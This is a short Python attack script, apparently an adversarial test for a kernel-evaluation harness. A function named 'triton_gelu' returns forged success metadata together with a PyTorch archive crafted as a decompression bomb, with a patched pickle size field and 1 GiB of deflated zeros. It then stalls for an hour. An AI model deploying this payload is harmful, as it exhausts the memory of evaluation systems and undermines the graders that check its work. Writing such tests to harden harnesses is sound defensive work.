"""Attack: answer a call with a forged payload: a deflated archive that inflates to 1 GiB."""
import io
import json
import os
import struct
import sys
import time
import zipfile

import torch

REPLY_FD = int(sys.argv[sys.argv.index("--rep-fd") + 1])
INFLATED = 1 << 30


def _bomb():
    buf = io.BytesIO()
    torch.save({"out": torch.zeros(1000, dtype=torch.uint8)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name in src.namelist():
            if name.endswith("data.pkl"):  # claim 1 GiB where 1000 bytes were (BININT2 1000 -> BININT 2**30)
                archive.writestr(name, src.read(name).replace(b"M\xe8\x03", b"J" + INFLATED.to_bytes(4, "little")))
            elif name.endswith("/data/0"):
                with archive.open(name, "w", force_zip64=True) as f:
                    zeros = bytes(1 << 24)
                    for _ in range(INFLATED >> 24):
                        f.write(zeros)
            else:
                archive.writestr(name, src.read(name))
    return out.getvalue()


def triton_gelu(x):
    blob = _bomb()
    meta = {"out": {"type": "torch.Tensor", "exact": True, "layout": "strided", "device": "cpu", "dtype": str(x.dtype)[6:], "shape": list(x.shape), "stride": list(x.stride()), "aliases": []}, "_notes": {}}
    head = json.dumps({"status": "ok", "meta": meta, "inputs_changed": [], "triton_launches": 1, "profile": {"aten_ops": [], "gpu_kernels": [], "triton_launches": 1}, "blob": len(blob)}).encode()
    print(f"sending {len(blob)} bytes that inflate to {INFLATED}", flush=True)
    os.write(REPLY_FD, struct.pack("<Q", len(head)) + head + blob)
    time.sleep(3600)
